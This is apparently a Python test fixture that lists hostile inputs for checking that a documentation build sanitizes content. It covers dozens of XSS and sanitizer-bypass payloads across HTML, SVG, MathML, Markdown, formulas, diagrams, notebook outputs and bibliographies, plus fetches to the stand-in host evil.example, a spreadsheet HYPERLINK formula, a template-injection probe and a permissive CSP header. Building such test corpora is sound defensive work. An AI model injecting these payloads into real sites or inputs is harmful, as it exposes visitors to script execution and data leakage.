"""Inputs that would run, navigate or fetch, if any of it reached a reader as more than text.

Whatever runs calls `executed()`; whatever fetches or leads away names `evil.example`.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path

from measured import archives, files
from measured.terms import record
from measured.terms.experiment import Table

sys.path.insert(0, str(Path(__file__).parents[1] / "scripts"))

import bibliography  # noqa: E402

RUN = "executed()"
FAR = "//evil.example"
NOTEBOOK = """\
---
title: Cells
jupyter:
  jupytext:
    text_representation: {extension: .md, format_name: markdown}
  kernelspec: {display_name: Python 3, language: python, name: python3}
---

# Cells

"""


@dataclass(frozen=True)
class Attack:
    """One input.

    Args:
        kind: where it enters.
        name: what it is, in words.
        files: what it adds to the project, by path.
        change: what else it changes, given the project's folder.
    """

    kind: str
    name: str
    files: dict[str, str] = field(default_factory=dict)
    change: Callable[[Path], None] = lambda root: None

    def __str__(self) -> str:
        return f"{self.kind}: {self.name}"


HTML = {
    "a script": f"<script>{RUN}</script>",
    "a script of a module": f'<script type="module">{RUN}</script>',
    "a script from elsewhere": f"<SCRIPT SRC={FAR}/x.js></SCRIPT>",
    "a map of imports": f'<script type="importmap">{{"imports": {{"a": "{FAR}/a.js"}}}}</script>',
    "rules of speculation": f'<script type="speculationrules">{{"prefetch": [{{"urls": ["https:{FAR}/"]}}]}}</script>',
    "an unbalanced quote": f'<p title="x>y"><script>{RUN}</script>',
    "an image that fails": f"<img src=x onerror={RUN}>",
    "a drawing that loads": f"<svg/onload={RUN}>",
    "details that open": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "a field that takes the focus": f"<input autofocus onfocus={RUN}>",
    "a popover": f'<div popover id="p" onbeforetoggle={RUN}>x</div><button popovertarget="p">y</button>',
    "a marquee": f"<marquee onstart={RUN}>x</marquee>",
    "an animation that starts": f'<p style="animation: x 1s" onanimationstart={RUN}>x</p>',
    "a javascript link": f'<a href="javascript:{RUN}">x</a>',
    "a javascript link with a tab": f'<a href="java&Tab;script:{RUN}">x</a>',
    "a javascript link by entities": f'<a href="&#x6A;avascript&colon;{RUN}">x</a>',
    "a javascript link behind a control character": f'<a href="&#1;javascript:{RUN}">x</a>',
    "a javascript link in upper case": f'<a href=" JaVaScRiPt:{RUN}">x</a>',
    "a data link": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    "a vbscript link": f'<a href="vbscript:{RUN}">x</a>',
    "a frame with a document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "a frame with a script": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "a frame from elsewhere": f'<iframe src="{FAR}"></iframe>',
    "an object": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "an embedded drawing": f'<embed src="data:image/svg+xml,<svg onload={RUN}>">',
    "another base": f'<base href="{FAR}/">',
    "a refresh": f'<meta http-equiv="refresh" content="0;url=https:{FAR}">',
    "a refresh by entities": f'<META HTTP-EQUIV="&#82;efresh" CONTENT="0;URL=javascript:{RUN}">',
    "a form": f'<form action="{FAR}" id="f"><button>x</button></form>',
    "a button that acts": f'<button form="f" formaction="javascript:{RUN}">x</button>',
    "a picture button": f'<input type="image" src="{FAR}/x.png" onerror={RUN}>',
    "a style sheet": f'<link rel="stylesheet" href="{FAR}/x.css">',
    "a hint to fetch": f'<link rel="prefetch" href="{FAR}/x"><link rel="preload" as="image" href="{FAR}/y">',
    "a style that imports": f"<style>@import '{FAR}/x.css';</style>",
    "a style that fetches": f'<p style="background: url({FAR}/x.png)">x</p>',
    "a picture from elsewhere": f'<img src="{FAR}/x.png">',
    "a picture by backslashes": r'<img src="\\evil.example\x.png">',
    "a picture in another density": f'<img src="x.png" srcset="{FAR}/x.png 2x">',
    "a film's poster": f'<video poster="{FAR}/x.png" src="{FAR}/x.mp4" autoplay></video>',
    "a link that pings": f'<a href="#x" ping="{FAR}">x</a>',
    "a template in a shadow": f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    "a noscript that ends early": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "a comment that ends early": f"<!--><img src=x onerror={RUN}>-->",
    "a comment that ends oddly": f"<!-- --!><img src=x onerror={RUN}> -->",
    "a title that ends": f"<title></title><img src=x onerror={RUN}></title>",
    "a textarea that ends": f"<textarea></textarea><script>{RUN}</script></textarea>",
    "plain text that is none": f"<xmp></xmp><script>{RUN}</script></xmp>",
    "an instruction": f'<?xml-stylesheet href="javascript:{RUN}"?>',
    "a nul in a tag": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "a half tag at the end": f"<img src=x onerror={RUN} ",
    "a node that mutates": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    ),
    "a node that mutates in a drawing": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "an element of its own": f"<x-y onpointerenter={RUN}>x</x-y>",
    "the theme's settings": '<p id="__config">{"base": "//evil.example", "features": [], "search": "//evil.example/w.js"}</p>',
    "the theme's component": '<div data-md-component="source" href="//evil.example">x</div>',
    "names that cover the document's": '<form name="body"><input name="currentScript"></form><img name="getElementById">',
}
SVG = {
    "a script in a drawing": f"<svg><script>{RUN}</script></svg>",
    "a script by address in a drawing": f'<svg><script href="data:,{RUN}"></script></svg>',
    "a link in a drawing": f'<svg><a xlink:href="javascript:{RUN}"><text y="20">x</text></a></svg>',
    "a use from elsewhere": f'<svg><use href="{FAR}/x.svg#a"/></svg>',
    "a use of data": f"<svg><use href=\"data:image/svg+xml,<svg id='a' onload='{RUN}'/>#a\"/></svg>",
    "an address that is animated": f'<svg><a><animate attributeName="href" to="javascript:{RUN}"/><text>x</text></a></svg>',
    "a handler that is set": f'<svg><set attributeName="onmouseover" to="{RUN}"/><rect width="9" height="9"/></svg>',
    "an animation that begins": f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
    "foreign content": f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject></svg>",
    "a picture in a drawing": f'<svg><image href="{FAR}/x.png"/></svg>',
    "a fill from elsewhere": f'<svg><rect fill="url({FAR}/x.svg#a)"/></svg>',
    "a filter from elsewhere": f'<svg><filter id="f"><feImage href="{FAR}/x.png"/></filter></svg>',
    "a section of text": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
}
MATHML = {
    "a link in a formula": f'<math href="javascript:{RUN}"><mi>x</mi></math>',
    "a link deep in a formula": f'<math><mi xlink:href="javascript:{RUN}">x</mi></math>',
    "an action in a formula": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}"><mi>x</mi></maction></math>',
    "HTML in a formula": f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>',
    "a glyph in a formula": f'<math><mtext><mglyph src="{FAR}/x.png"/></mtext></math>',
}
MARKDOWN = {
    "a javascript link": f"[x](javascript:{RUN})",
    "a javascript link by entities": f"[x](&#106;avascript:{RUN})",
    "a javascript link by reference": f"[x][y]\n\n[y]: javascript:{RUN}",
    "a javascript link in brackets": f"<javascript:{RUN}>",
    "a javascript picture": f"![x](javascript:{RUN})",
    "a picture from elsewhere": f"![x](https:{FAR}/x.png)",
    "a handler as an attribute": f"[x](#y){{ onclick={RUN} }}",
    "a style as an attribute": f'[x](#y){{ style="background:url({FAR})" }}',
    "an id that breaks out": f'## A heading {{#a"onclick="{RUN}}}',
    "an id of the theme": "## A heading {#__config}",
    "an alt text that breaks out": f'!["><script>{RUN}</script>](x.svg)',
    "a link's title that breaks out": f"[x](#y '\"><img src=x onerror={RUN}>')",
    "a table with markup": f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | x |",
    "code with markup": f"`</code><script>{RUN}</script>`\n\n```html\n</code></pre><script>{RUN}</script>\n```",
    "a fence's title": f'```py title="</span><script>{RUN}</script>"\nx = 1\n```',
    "a block in Markdown": f'<div markdown="1" onclick="{RUN}">\n\nx\n\n</div>',
    "Markdown in HTML in Markdown": f'<div markdown="1">\n\n<b markdown="1"><img src=x onerror={RUN}></b>\n\n</div>',
    "a template's words": "<p>{{ ''.__class__.__mro__[1].__subclasses__() }}</p>",
}
FORMULAS = {
    "a link": rf"$\href{{javascript:{RUN}}}{{x}}$",
    "an address": rf"$\url{{javascript:{RUN}}}$",
    "text with markup": rf"$\text{{<img src=x onerror={RUN}>}}$",
    "a picture": rf"$\includegraphics{{https:{FAR}/x.png}}$",
    "an attribute": rf"$\htmlData{{a=b}}{{x}} \style{{background:url({FAR})}}{{y}}$",
    "a class and an id": r"$\class{md-nav}{x} \id{__config}{y} \cssId{__config}{z}$",
}
DIAGRAMS = {
    "a label with markup": f'graph LR\n  a["<img src=x onerror={RUN}>"] --> b',
    "a node that is clicked": f'graph LR\n  a --> b\n  click a "javascript:{RUN}"',
    "a node that calls": "graph LR\n  a --> b\n  click a call executed()",
    "settings of its own": '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph LR\n  a --> b',
    "a style that fetches": f"graph LR\n  a --> b\n  style a fill:url({FAR}/x)",
    "a title with markup": f"graph LR\n  accTitle: </title><script>{RUN}</script>\n  a --> b",
}
FRONT_MATTER = {
    "a title": {"title": f"</title><script>{RUN}</script>"},
    "a description": {"description": f'"><script>{RUN}</script>'},
    "a description that refreshes": {
        "description": f'"><meta http-equiv=refresh content="0;url=https:{FAR}">'
    },
    "an author": {"author": f'"><script>{RUN}</script>'},
    "an icon": {"icon": f'"><script>{RUN}</script>', "status": f'"><img src=x onerror={RUN}>'},
    "a subtitle": {"subtitle": f"<img src=x onerror={RUN}>", "summary": f"<script>{RUN}</script>"},
    "a template elsewhere": {"template": "../../../../docs/evil.html"},
    "a title that is data": {"title": ["</title>", f"<script>{RUN}</script>"]},
    "an address to edit": {"edit_url": f"javascript:{RUN}", "canonical_url": f"javascript:{RUN}"},
}
OUTPUTS = {
    "text/html": f"<b>x</b><img src=x onerror={RUN}>",
    "text/html, unbalanced": f'<p title="x>y"><script>{RUN}</script>',
    "text/markdown": f"[x](javascript:{RUN}) <script>{RUN}</script>",
    "text/latex": rf"$\href{{javascript:{RUN}}}{{x}}$ <script>{RUN}</script>",
    "text/plain": f"</code></pre></div><script>{RUN}</script>",
    "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>',
    "image/png": f'AAAA"><script>{RUN}</script>',
    "application/javascript": RUN,
    "application/json": {"x": f"</script><script>{RUN}</script>"},
    "application/vnd.plotly.v1+json": {"data": [f"<script>{RUN}</script>"]},
    "application/pdf": "JVBERi0=",
    "text/x-unknown": f"<script>{RUN}</script>",
}
PRINTED = {
    "the end of a block": f"</code></pre></div><script>{RUN}</script>",
    "a fence": f"```\n<script>{RUN}</script>\n```",
    "colours": f"\x1b[31m<script>{RUN}</script>\x1b]8;;javascript:{RUN}\x1b\\x\x1b]8;;\x1b\\",
    "a return": f"loading\r<script>{RUN}</script>",
}
_DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {}>{}</svg>'
PUBLISHED_FILES = {
    "a drawing with a script": ("x.svg", _DRAWING.format("", f"<script>parent.{RUN}</script>")),
    "a drawing that loads": ("x.svg", _DRAWING.format(f'onload="{RUN}"', "")),
    "a drawing with a style sheet": (
        "x.svg",
        f'<?xml-stylesheet href="{FAR}/x.css"?>' + _DRAWING.format("", ""),
    ),
    "a drawing with an entity": (
        "x.svg",
        f'<!DOCTYPE svg [<!ENTITY x "&#60;script>{RUN}&#60;/script>">]>' + _DRAWING.format("", "&x;"),
    ),
    "a drawing in upper case": ("x.SVG", _DRAWING.format("", f"<script>{RUN}</script>")),
    "a page of HTML": ("x.html", f"<!doctype html><title>x</title><script>{RUN}</script>"),
    "a page of HTML by another name": ("x.htm", f"<!doctype html><title>x</title><script>{RUN}</script>"),
    "a page of XHTML": (
        "x.xhtml",
        f'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>{RUN}</script></body></html>',
    ),
    "a page of XML": ("x.xml", f'<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{RUN}</h:script></x>'),
    "a worker and its page": ("sw.js", f"self.{RUN}"),
    "headers of its own": ("_headers", "/*\n  Content-Security-Policy: script-src * 'unsafe-inline'\n"),
    "a page hidden from the navigation": ("x.md", f"# x\n\n<script>{RUN}</script>"),
}
BIBLIOGRAPHY = {
    name: f"@article{{key2017,\n  title = {{A title}},\n  author = {{Smith, A.}},\n  year = {{2017}},\n{line}\n}}\n"
    for name, line in {
        "a journal": f"  journal = {{<img src=x onerror={RUN}>}},",
        "a number in an archive": f"  journal = {{J}},\n  eprint = {{1](javascript:{RUN}) <script>{RUN}</script>}},",
        "a school": f"  school = {{[x](javascript:{RUN})}},",
    }.items()
}
TEXTS = {
    "a script": f"</td></script><script>{RUN}</script>",
    "a picture": f'"><img src=x onerror={RUN}>',
    "a template's mark": f"{{{{ x }}}}{{% raw %}}<img src=x onerror={RUN}>$$\\href{{javascript:{RUN}}}{{x}}$$",
}


def numbered(name: str, number: int) -> str:
    """The file of an input among those of all others."""
    folder, _, last = name.rpartition("/")
    stem, _, suffix = last.rpartition(".")
    return f"{folder}/evil{number}.{suffix}" if stem else name


def attacks() -> Iterator[Attack]:
    """Every input."""
    for kind, found in (("HTML of a page", HTML), ("SVG in a page", SVG), ("MathML in a page", MATHML)):
        for name, html in found.items():
            yield Attack(kind, name, {"docs/evil.md": f"# A page\n\n<div>{html}</div>\n\nAfter.\n"})
    for name, text in MARKDOWN.items():
        yield Attack("Markdown", name, {"docs/evil.md": f"# A page\n\n{text}\n\n## y\n\nAfter.\n"})
    for name, formula in FORMULAS.items():
        yield Attack("formula", name, {"docs/evil.md": f"# A page\n\nSo {formula} it is.\n"})
    for name, diagram in DIAGRAMS.items():
        yield Attack("diagram", name, {"docs/evil.md": f"# A page\n\n```mermaid\n{diagram}\n```\n"})
    for name, meta in FRONT_MATTER.items():
        yield Attack(
            "front matter", name, {"docs/evil.md": f"---\n{json.dumps(meta)}\n---\n\n# A page\n\nx\n"}
        )
    for mime, data in OUTPUTS.items():
        code = f"display({{{mime.split(',')[0]!r}: {data!r}, 'text/plain': 'x'}}, raw=True)"
        yield Attack("output of a cell", mime, {"docs/evil.md": f"{NOTEBOOK}```python\n{code}\n```\n"})
    for name, text in PRINTED.items():
        yield Attack(
            "text that a cell prints", name, {"docs/evil.md": f"{NOTEBOOK}```python\nprint({text!r})\n```\n"}
        )
    for name, (place, text) in PUBLISHED_FILES.items():
        yield Attack("file", name, {f"docs/{place}": text})
    for name, entry in BIBLIOGRAPHY.items():
        listed = [bibliography.reference(*one) for one in bibliography.entries(entry).items()]
        yield Attack("bibliography", name, {"docs/evil.md": "\n".join(["# A page\n", *listed])})
    for name, text in TEXTS.items():
        yield Attack("measured text", name, change=_measured(text))
        yield Attack("words of a table", name, change=_table(text))
        yield Attack("words of a figure", name, change=_figure(text))
    yield Attack("CSV", "a formula of a spreadsheet", change=_table(f'=HYPERLINK("https:{FAR}","x")'))


def _measured(text: str) -> Callable[[Path], None]:
    """Every text of a record: of measurements, tolerances, claims, the question, the environment."""

    def change(root: Path) -> None:
        found = record.read_record(root / "build/records/fair.json")
        measurements = {
            name: replace(
                m,
                description=f"{m.description} {text}",
                unit=text,
                tolerance=replace(m.tolerance, reason=text),
            )
            for name, m in found.measurements.items()
        }
        name = measurements["fair.name"]
        measurements["fair.name"] = replace(name, value=text)
        claims = {n: replace(c, words=text, saw={text: text}) for n, c in found.claims.items()}
        made = replace(
            found,
            measurements=measurements,
            claims=claims,
            question=text,
            environment={**found.environment, "machine": text, "versions": {text: text}},
            arrays=dict(found.arrays),
        )
        record.write_record(root / "build/records", made)

    return change


def _table(text: str) -> Callable[[Path], None]:
    """Headings and labels of a table."""

    def change(root: Path) -> None:
        found = record.read_record(root / "build/records/fair.json")
        table = found.tables["fair.summary"]
        rows = tuple((text, *row[1:]) for row in table.rows)
        changed = Table(table.name, (text, *table.columns[1:]), rows)
        made = replace(found, tables={table.name: changed}, arrays=dict(found.arrays))
        record.write_record(root / "build/records", made)

    return change


def _figure(text: str) -> Callable[[Path], None]:
    """The alt text of a figure, and the text inside its drawing."""

    def change(root: Path) -> None:
        folder = root / "build/figures"
        voucher = archives.read_json(folder / "fair.counts.json")
        drawing = (
            (folder / "fair.counts.svg").read_text("utf-8").replace("</svg>", f"<text>{text}</text></svg>")
        )
        (folder / "fair.counts.svg").write_text(drawing, "utf-8")
        files.write_json(folder / "fair.counts.json", archives.sealed({**voucher, "alt": text}))

    return change
